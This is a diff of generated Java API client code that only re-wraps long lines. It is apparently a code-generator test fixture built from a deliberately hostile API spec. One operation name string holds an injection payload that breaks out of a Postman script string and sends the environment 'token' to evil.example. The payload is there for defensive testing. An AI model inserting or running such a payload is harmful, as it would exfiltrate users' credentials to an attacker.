@@ -30,7 +30,9 @@ public final class ProtoApi {
       String x, String hostileTokenQuery, String xHostileToken, String xFine,
       String hostileTokenCookie, PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body)
       throws IOException {
-    pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileTokenQuery, xHostileToken, xFine, hostileTokenCookie, body).send();
+    pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(
+        hostileToken, aB, x, hostileTokenQuery, xHostileToken, xFine, hostileTokenCookie, body)
+        .send();
   }
 
   /**
@@ -43,7 +45,9 @@ public final class ProtoApi {
       String hostileToken, String aB, String x, String hostileTokenQuery, String xHostileToken,
       String xFine, String hostileTokenCookie,
       PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
-    return pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(hostileToken, aB, x, hostileTokenQuery, xHostileToken, xFine, hostileTokenCookie, body).sendAsync();
+    return pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(
+        hostileToken, aB, x, hostileTokenQuery, xHostileToken, xFine, hostileTokenCookie, body)
+        .sendAsync();
   }
 
   /**
@@ -55,7 +59,10 @@ public final class ProtoApi {
   public Call<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(String hostileToken,
       String aB, String x, String hostileTokenQuery, String xHostileToken, String xFine,
       String hostileTokenCookie, PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
-    return client.call("'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //", "POST", "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/\u00fc", AcmeHostileSecurity.NEEDS_TOKEN, Answer.none())
+    return client.call(
+        "'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //", "POST",
+        "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/\u00fc", AcmeHostileSecurity.NEEDS_TOKEN,
+        Answer.none())
         .with(new Parameters()
         .path("hostile_token", Parameters.required("hostile_token", hostileToken))
         .path("a.b", Parameters.required("a.b", aB))
